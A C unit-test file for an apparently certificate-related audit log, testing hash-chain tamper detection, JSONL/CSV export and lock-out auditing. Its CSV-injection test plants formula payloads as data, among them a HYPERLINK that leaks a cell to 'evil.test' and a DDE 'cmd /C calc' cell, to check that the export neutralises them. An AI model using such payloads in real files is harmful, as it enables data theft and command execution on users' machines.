/* SPDX-License-Identifier: MIT */
/* Unit tests for audit/: appending, chain verification against tampering, and export. */
#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "audit/audit.h"

#define T0 1767225600 /* 2026-01-01T00:00:00Z */

static int rm_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

struct fixture {
	char *dir;
	db_t *db;
};

static int setup(void **state)
{
	const char *tmp = getenv("TMPDIR");
	struct fixture *f = calloc(1, sizeof(*f));
	cairn_err_t err = { 0 };

	if (f == NULL || asprintf(&f->dir, "%s/cairn-test-audit-XXXXXX", tmp ? tmp : "/tmp") < 0 ||
	    mkdtemp(f->dir) == NULL || db_open(f->dir, &f->db, &err) != 0)
		return -1;
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	db_close(f->db);
	nftw(f->dir, rm_entry, 8, FTW_DEPTH | FTW_PHYS);
	free(f->dir);
	free(f);
	return 0;
}

/* Appends n events; event i of the whole log gets time T0 + i hours. */
struct append_op {
	int n;
	uint64_t next; /* 1-based sequence expected for the first event */
	const char *actor;
	uint64_t seqs[16];
};

static int append_fn(db_txn_t *txn, void *arg, cairn_err_t *err)
{
	struct append_op *op = arg;
	json_t *names = json_pack("[ss]", "www.example.com", "example.com");
	json_t *details = json_pack("{s:s,s:i}", "profile", "tls-server", "days", 90);
	audit_event_t ev = { .actor = op->actor ? op->actor : "cli:test", .action = "cert.issue",
			     .serial = "7f01", .names = names, .details = details };
	int i, rc = 0;

	for (i = 0; i < op->n && rc == 0; i++) {
		time_t when = T0 + (time_t)(op->next + (uint64_t)i - 1) * 3600;
		rc = audit_append_at(txn, &ev, when, &op->seqs[i], err);
	}
	json_decref(names);
	json_decref(details);
	return rc;
}

/* Appends in several write txns: 2 + 3 + 4 = 9 events. */
static void fill(db_t *db)
{
	int sizes[] = { 2, 3, 4 }, i, j;
	uint64_t next = 1;

	for (i = 0; i < 3; i++) {
		struct append_op op = { .n = sizes[i], .next = next };
		cairn_err_t err = { 0 };
		assert_int_equal(db_write(db, append_fn, &op, &err), 0);
		for (j = 0; j < op.n; j++)
			assert_int_equal(op.seqs[j], next + (uint64_t)j);
		next += (uint64_t)op.n;
	}
}

/* Flips one byte inside the "actor" value of event seq (XOR 0x01). */
struct tamper_op {
	uint64_t seq;
	const char *after; /* flip the byte just after this marker */
	int del;
};

static int tamper_fn(db_txn_t *txn, void *arg, cairn_err_t *err)
{
	struct tamper_op *t = arg;
	uint8_t key[8];
	const void *v;
	size_t vlen;
	char *copy, *p;
	int rc;
	(void)err;

	db_be64_put(key, t->seq);
	if (t->del)
		return db_del(txn, DB_AUDIT, key, sizeof(key));
	rc = db_get(txn, DB_AUDIT, key, sizeof(key), &v, &vlen);
	if (rc != 0)
		return rc;
	copy = malloc(vlen + 1);
	memcpy(copy, v, vlen);
	copy[vlen] = '\0';
	p = strstr(copy, t->after ? t->after : "\"actor\":\"");
	assert_non_null(p);
	p += strlen(t->after ? t->after : "\"actor\":\"");
	*p ^= 0x01;
	rc = db_put(txn, DB_AUDIT, key, sizeof(key), copy, vlen, 0);
	free(copy);
	return rc;
}

static void tamper(db_t *db, uint64_t seq, const char *after, int del)
{
	struct tamper_op t = { seq, after, del };

	assert_int_equal(db_write(db, tamper_fn, &t, NULL), 0);
}

static void expect_broken(db_t *db, uint64_t first_bad)
{
	audit_verify_result_t res;

	assert_int_equal(audit_verify(db, &res), CAIRN_EAUDIT);
	print_message("# first_bad=%llu: %s\n", (unsigned long long)res.first_bad, res.reason);
	assert_int_equal(res.first_bad, first_bad);
	assert_true(res.reason[0] != '\0');
}

static void test_append_verify(void **state)
{
	struct fixture *f = *state;
	audit_verify_result_t res;
	db_txn_t *txn;
	const void *v;
	size_t vlen;
	uint8_t key[8];
	char *first;

	assert_int_equal(audit_verify(f->db, &res), 0); /* empty log is intact */
	assert_int_equal(res.count, 0);
	fill(f->db);
	assert_int_equal(audit_verify(f->db, &res), 0);
	assert_int_equal(res.count, 9);
	assert_int_equal(res.first_bad, 0);

	assert_int_equal(db_read_begin(f->db, &txn), 0);
	db_be64_put(key, 1);
	assert_int_equal(db_get(txn, DB_AUDIT, key, 8, &v, &vlen), 0);
	first = strndup(v, vlen);
	assert_string_equal(first,
			    "{\"seq\":1,\"time\":\"2026-01-01T00:00:00Z\",\"actor\":\"cli:test\","
			    "\"action\":\"cert.issue\",\"serial\":\"7f01\",\"names\":"
			    "[\"www.example.com\",\"example.com\"],\"details\":{\"profile\":"
			    "\"tls-server\",\"days\":90},\"prev\":\""
			    "0000000000000000000000000000000000000000000000000000000000000000\"}");
	free(first);
	assert_int_equal(db_get(txn, DB_META, "audit_head", 10, &v, &vlen), 0);
	assert_int_equal(vlen, 40);
	assert_int_equal(db_be64_get(v), 9);
	db_txn_end(txn);
}

static void test_append_rejects(void **state)
{
	struct fixture *f = *state;
	cairn_err_t err = { 0 };
	json_t *bad = json_pack("[i]", 3);
	audit_event_t ev = { .actor = "cli:test", .action = NULL };
	db_txn_t *txn;

	assert_int_equal(db_read_begin(f->db, &txn), 0);
	assert_int_equal(audit_append(txn, &ev, NULL, &err), CAIRN_EINVAL);
	ev.action = "x";
	ev.names = bad;
	assert_int_equal(audit_append(txn, &ev, NULL, &err), CAIRN_EINVAL);
	ev.names = NULL;
	/* a read txn cannot append */
	assert_int_not_equal(audit_append(txn, &ev, NULL, &err), 0);
	db_txn_end(txn);
	json_decref(bad);
}

/* The whole walk in steps of 2: the count of steps, and what each result says. */
static int verify_in_steps(db_t *db, audit_verify_result_t *res, int *steps)
{
	audit_walk_t w = { 0 };
	int rc, done = 0;

	*steps = 0;
	do {
		rc = audit_verify_step(db, &w, 2, res, &done);
		(*steps)++;
	} while (rc == 0 && !done);
	return rc;
}

/* Steps find what one walk finds: an intact chain whole, a changed event in a later step
 * (and the first event), events appended between steps. */
static void test_verify_steps(void **state)
{
	struct fixture *f = *state;
	audit_verify_result_t res;
	audit_walk_t w = { 0 };
	int steps, done;

	assert_int_equal(verify_in_steps(f->db, &res, &steps), 0); /* empty */
	assert_int_equal(res.count, 0);
	fill(f->db);
	assert_int_equal(verify_in_steps(f->db, &res, &steps), 0);
	assert_int_equal(res.count, 9);
	assert_int_equal(steps, 5); /* 2+2+2+2, then the ninth and the head */
	tamper(f->db, 7, NULL, 0);
	assert_int_equal(verify_in_steps(f->db, &res, &steps), CAIRN_EAUDIT);
	assert_int_equal(res.first_bad, 7);
	assert_int_equal(steps, 4);
	tamper(f->db, 7, NULL, 0);
	tamper(f->db, 1, NULL, 0);
	assert_int_equal(verify_in_steps(f->db, &res, &steps), CAIRN_EAUDIT);
	assert_int_equal(res.first_bad, 1);
	tamper(f->db, 1, NULL, 0);
	/* events appended after the first step are checked by the later ones */
	assert_int_equal(audit_verify_step(f->db, &w, 2, &res, &done), 0);
	assert_int_equal(done, 0);
	{
		struct append_op op = { .n = 3, .next = 10 };
		assert_int_equal(db_write(f->db, append_fn, &op, NULL), 0);
	}
	do
		assert_int_equal(audit_verify_step(f->db, &w, 2, &res, &done), 0);
	while (!done);
	assert_int_equal(res.count, 12);
}

static void test_tamper_middle(void **state)
{
	struct fixture *f = *state;

	fill(f->db);
	tamper(f->db, 5, NULL, 0);
	expect_broken(f->db, 5);
	tamper(f->db, 5, NULL, 0); /* restored */
	assert_int_equal(audit_verify(f->db, NULL), 0);
	tamper(f->db, 1, NULL, 0);
	expect_broken(f->db, 1);
	tamper(f->db, 1, NULL, 0);
	/* editing an event's own "prev" field is pinned on that event */
	tamper(f->db, 4, "\"prev\":\"", 0);
	expect_broken(f->db, 4);
}

static void test_tamper_last(void **state)
{
	struct fixture *f = *state;

	fill(f->db);
	tamper(f->db, 9, NULL, 0);
	expect_broken(f->db, 9);
	tamper(f->db, 9, NULL, 0);
	tamper(f->db, 9, "\"prev\":\"", 0);
	expect_broken(f->db, 9);
	tamper(f->db, 9, "\"prev\":\"", 0);
	/* the event before the newest: detected via the newest event's prev */
	tamper(f->db, 8, NULL, 0);
	expect_broken(f->db, 8);
}

static void test_delete(void **state)
{
	struct fixture *f = *state;

	fill(f->db);
	tamper(f->db, 9, NULL, 1);
	expect_broken(f->db, 9);
	tamper(f->db, 4, NULL, 1);
	expect_broken(f->db, 4);
}

static void test_append_after_tamper_still_detected(void **state)
{
	struct fixture *f = *state;
	struct append_op op = { .n = 1, .next = 10 };

	fill(f->db);
	tamper(f->db, 9, NULL, 1);
	/* appending chains to the head, so the deleted event stays a visible gap */
	assert_int_equal(db_write(f->db, append_fn, &op, NULL), 0);
	assert_int_equal(op.seqs[0], 10);
	expect_broken(f->db, 9);
}

static size_t count_lines(const char *s)
{
	size_t n = 0;

	for (; *s; s++)
		n += *s == '\n';
	return n;
}

static void test_export(void **state)
{
	struct fixture *f = *state;
	struct append_op op = { .n = 1, .next = 10, .actor = "admin:a,b \"q\"" };
	cairn_err_t err = { 0 };
	uint64_t n = 0;
	char *buf = NULL;
	size_t len = 0;
	FILE *out;

	fill(f->db); /* times T0 + 0h .. T0 + 8h */
	assert_int_equal(db_write(f->db, append_fn, &op, NULL), 0); /* T0 + 9h */

	/* JSONL, [T0+2h, T0+5h): events 3, 4, 5 */
	out = open_memstream(&buf, &len);
	assert_int_equal(audit_export(f->db, out, AUDIT_FMT_JSONL, T0 + 2 * 3600, T0 + 5 * 3600,
				      &n, &err),
			 0);
	fclose(out);
	assert_int_equal(n, 3);
	assert_int_equal(count_lines(buf), 3);
	assert_true(strncmp(buf, "{\"seq\":3,", 9) == 0);
	assert_null(strstr(buf, "\"seq\":6,"));
	free(buf);

	/* CSV, everything: header + 10 rows, RFC 4180 quoting */
	buf = NULL;
	out = open_memstream(&buf, &len);
	assert_int_equal(audit_export(f->db, out, AUDIT_FMT_CSV, 0, 0, &n, &err), 0);
	fclose(out);
	assert_int_equal(n, 10);
	assert_int_equal(count_lines(buf), 11);
	assert_true(strncmp(buf, "seq,time,actor,action,serial,names,details,hash,prev\r\n", 54) == 0);
	/* plain values: names joined by spaces, details as key=value pairs */
	assert_non_null(strstr(buf, "\r\n1,2026-01-01T00:00:00Z,cli:test,cert.issue,7f01,"
				    "www.example.com example.com,profile=tls-server; days=90,"));
	assert_null(strstr(buf, "{"));
	assert_non_null(strstr(buf, "\r\n10,2026-01-01T09:00:00Z,\"admin:a,b \"\"q\"\"\",cert.issue,"));
	free(buf);

	/* CSV since only: events 9 and 10 */
	buf = NULL;
	out = open_memstream(&buf, &len);
	assert_int_equal(audit_export(f->db, out, AUDIT_FMT_CSV, T0 + 8 * 3600, 0, &n, &err), 0);
	fclose(out);
	assert_int_equal(n, 2);
	assert_int_equal(count_lines(buf), 3);
	free(buf);
}

/* Events a spreadsheet must not evaluate: CN, names, actor and details from outside. */
static int hostile_fn(db_txn_t *txn, void *arg, cairn_err_t *err)
{
	json_t *names = json_pack("[s, s, s]", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
				  "ok.example.test", "@SUM(1+1)");
	json_t *details = json_pack("{s:s, s:{s:[i, s]}, s:b, s:n, s:{}}", "cn", "+cmd|' /C calc'!A0",
				    "deep", "list", 7, "-2+3", "ok", 1, "none", "empty");
	audit_event_t ev = { .actor = "\tacme:acct/1", .action = "cert.issue", .serial = "7f02",
			     .names = names, .details = details };
	int rc;
	(void)arg;

	rc = audit_append_at(txn, &ev, T0, NULL, err);
	ev.actor = "\r=1+1";
	ev.names = NULL;
	json_object_clear(details);
	json_object_set_new(details, "cn", json_string(" -1"));
	if (rc == 0)
		rc = audit_append_at(txn, &ev, T0 + 1, NULL, err);
	json_decref(names);
	json_decref(details);
	return rc;
}

/* Outside text in every column of the CSV report: no cell is read as a formula. */
static void test_export_csv_injection(void **state)
{
	struct fixture *f = *state;
	cairn_err_t err = { 0 };
	uint64_t n = 0;
	char *buf = NULL;
	size_t len = 0;
	FILE *out;

	assert_int_equal(db_write(f->db, hostile_fn, NULL, &err), 0);
	out = open_memstream(&buf, &len);
	assert_int_equal(audit_export(f->db, out, AUDIT_FMT_CSV, 0, 0, &n, &err), 0);
	fclose(out);
	assert_int_equal(n, 2);
	/* Every cell that starts with = + - @ tab CR (maybe after spaces) starts with ' */
	assert_non_null(strstr(buf, "\r\n1,2026-01-01T00:00:00Z,'\tacme:acct/1,cert.issue,7f02,"
				    "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")"
				    " ok.example.test @SUM(1+1)\","
				    "cn=+cmd|' /C calc'!A0; deep.list.0=7; deep.list.1=-2+3; ok=true; "
				    "none=null; empty=,"));
	assert_non_null(strstr(buf, "\r\n2,2026-01-01T00:00:01Z,\"'\r=1+1\",cert.issue,7f02,,"
				    "cn= -1,"));
	/* Only the cells' first characters matter: no cell starts with a formula character. */
	{
		const char *p = buf;
		int in_quotes = 0, cell_start = 1;
		for (; *p; p++) {
			if (cell_start) {
				const char *q = p + (*p == '"');
				q += strspn(q, " ");
				if (*q != '\0' && strchr("=+-@\t\r", *q) != NULL)
					fail_msg("a cell starts with a formula character at offset %zu",
						 (size_t)(p - buf));
				cell_start = 0;
			}
			if (*p == '"')
				in_quotes = !in_quotes;
			else if (!in_quotes && (*p == ',' || *p == '\n'))
				cell_start = 1;
		}
	}
	free(buf);
}

/* The whole log as JSONL (caller frees), its event count in *n. */
static char *export_all(db_t *db, uint64_t *n)
{
	cairn_err_t err = { 0 };
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_int_equal(audit_export(db, out, AUDIT_FMT_JSONL, 0, 0, n, &err), 0);
	fclose(out);
	return buf;
}

/*
 * A lock-out's refusals are audited once, when the key may try again; the first 429 is
 * the caller's to audit (*first). When that write fails (here: a read-only handle, as on
 * a full disk) the count is not lost: the next check writes it, with any refusals since.
 */
static void test_limit_lockout_audited(void **state)
{
	struct fixture *f = *state;
	util_ratelimit_t *rl = NULL;
	db_t *ro = NULL;
	cairn_err_t err = { 0 };
	uint64_t n = 0;
	char *buf;
	int first = 9, i;

	assert_int_equal(audit_limit_check(f->db, NULL, "addr:192.0.2.1", "192.0.2.1", "anonymous",
					   "x.login_limited", &first), 0); /* no limiter: no limit */
	assert_int_equal(first, 0);
	assert_int_equal(util_ratelimit_new(16, 1, 50, &rl), 0);
	util_ratelimit_fail(rl, "addr:192.0.2.1");
	assert_true(audit_limit_check(f->db, rl, "addr:192.0.2.1", "192.0.2.1", "anonymous",
				      "x.login_limited", &first) > 0);
	assert_int_equal(first, 1);
	for (i = 0; i < 3; i++) {
		assert_true(audit_limit_check(f->db, rl, "addr:192.0.2.1", "192.0.2.1",
					      "anonymous", "x.login_limited", &first) > 0);
		assert_int_equal(first, 0);
	}
	buf = export_all(f->db, &n);
	assert_int_equal(n, 0); /* nothing written while locked */
	free(buf);

	/* The lock-out ends, but its audit write fails: the count is kept. */
	assert_int_equal(db_open_readonly(f->dir, &ro, &err), 0);
	usleep(60 * 1000); /* past the 50 ms window (checks while locked do not extend it) */
	assert_int_equal(audit_limit_check(ro, rl, "addr:192.0.2.1", "192.0.2.1", "anonymous",
					   "x.login_limited", &first), 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 0);
	free(buf);
	/* The next check writes it, once. */
	assert_int_equal(audit_limit_check(f->db, rl, "addr:192.0.2.1", "192.0.2.1", "anonymous",
					   "x.login_limited", &first), 0);
	assert_int_equal(audit_limit_check(f->db, rl, "addr:192.0.2.1", "192.0.2.1", "anonymous",
					   "x.login_limited", &first), 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 1);
	assert_non_null(strstr(buf, "\"action\":\"x.login_limited\""));
	assert_non_null(strstr(buf, "\"actor\":\"anonymous\""));
	assert_non_null(strstr(buf, "\"key\":\"192.0.2.1\""));
	assert_non_null(strstr(buf, "\"refused\":4")); /* the first 429 and three more */
	free(buf);

	/* Given back while a new lock-out runs: both counts come out together at its end. */
	util_ratelimit_fail(rl, "user:u");
	assert_true(audit_limit_check(f->db, rl, "user:u", "u", "est", "x.login_limited",
				      &first) > 0);
	usleep(60 * 1000);
	assert_int_equal(audit_limit_check(ro, rl, "user:u", "u", "est", "x.login_limited",
					   &first), 0); /* refused 1; its write fails */
	util_ratelimit_fail(rl, "user:u");
	assert_true(audit_limit_check(f->db, rl, "user:u", "u", "est", "x.login_limited",
				      &first) > 0);
	assert_int_equal(first, 0); /* the given-back count makes this one not the first */
	usleep(60 * 1000);
	assert_int_equal(audit_limit_check(f->db, rl, "user:u", "u", "est", "x.login_limited",
					   &first), 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 2);
	assert_non_null(strstr(buf, "\"key\":\"u\",\"refused\":2}"));
	free(buf);
	db_close(ro);
	util_ratelimit_free(rl);
}

static void shown_upper(const char *key, char *out, size_t cap)
{
	size_t i;

	for (i = 0; key[i] != '\0' && i + 1 < cap; i++)
		out[i] = (char)(key[i] >= 'a' && key[i] <= 'z' ? key[i] - 32 : key[i]);
	out[i] = '\0';
}

/* At a stop, every count only memory held is audited in one write (at_stop), once: a
 * running lock-out and one that ended with no check since; a key never refused writes
 * nothing, and the counts are gone from the limiter afterwards. */
static void test_limit_flush(void **state)
{
	struct fixture *f = *state;
	util_ratelimit_t *rl = NULL;
	uint64_t n = 0;
	char *buf;
	const char *at;
	int first, i;

	assert_int_equal(audit_limit_flush(f->db, NULL, "anonymous", "x.login_limited", NULL), 0);
	assert_int_equal(util_ratelimit_new(64, 1, 60000, &rl), 0);
	assert_int_equal(audit_limit_flush(f->db, rl, "anonymous", "x.login_limited", NULL), 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 0); /* nothing counted: nothing written */
	free(buf);
	util_ratelimit_fail(rl, "addr:a");
	util_ratelimit_fail(rl, "addr:b");
	util_ratelimit_fail(rl, "addr:c"); /* failed, never refused */
	for (i = 0; i < 3; i++)
		assert_true(audit_limit_check(f->db, rl, "addr:a", "a", "anonymous",
					      "x.login_limited", &first) > 0);
	assert_true(audit_limit_check(f->db, rl, "addr:b", "b", "anonymous", "x.login_limited",
				      &first) > 0);
	util_ratelimit_recount(rl, "addr:d", 5); /* ended, its write failed, no check since */
	assert_int_equal(audit_limit_flush(f->db, rl, "anonymous", "x.login_limited", shown_upper),
			 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 3);
	assert_non_null(strstr(buf, "\"key\":\"ADDR:A\",\"refused\":3"));
	assert_non_null(strstr(buf, "\"key\":\"ADDR:B\",\"refused\":1"));
	assert_non_null(strstr(buf, "\"key\":\"ADDR:D\",\"refused\":5"));
	assert_null(strstr(buf, "ADDR:C"));
	assert_int_equal(count_lines(buf), 3);
	for (i = 0, at = strstr(buf, "\"at_stop\":true"); at != NULL; at = strstr(at + 1, "\"at_stop\":true"))
		i++;
	assert_int_equal(i, 3);
	free(buf);
	/* Drained: a second stop writes nothing, and d's count is not reported again. */
	assert_int_equal(audit_limit_flush(f->db, rl, "anonymous", "x.login_limited", NULL), 0);
	assert_int_equal(audit_limit_check(f->db, rl, "addr:d", "d", "anonymous",
					   "x.login_limited", &first), 0);
	buf = export_all(f->db, &n);
	assert_int_equal(n, 3);
	free(buf);
	util_ratelimit_free(rl);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_append_verify, setup, teardown),
		cmocka_unit_test_setup_teardown(test_append_rejects, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tamper_middle, setup, teardown),
		cmocka_unit_test_setup_teardown(test_verify_steps, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tamper_last, setup, teardown),
		cmocka_unit_test_setup_teardown(test_delete, setup, teardown),
		cmocka_unit_test_setup_teardown(test_append_after_tamper_still_detected, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_export, setup, teardown),
		cmocka_unit_test_setup_teardown(test_export_csv_injection, setup, teardown),
		cmocka_unit_test_setup_teardown(test_limit_lockout_audited, setup, teardown),
		cmocka_unit_test_setup_teardown(test_limit_flush, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
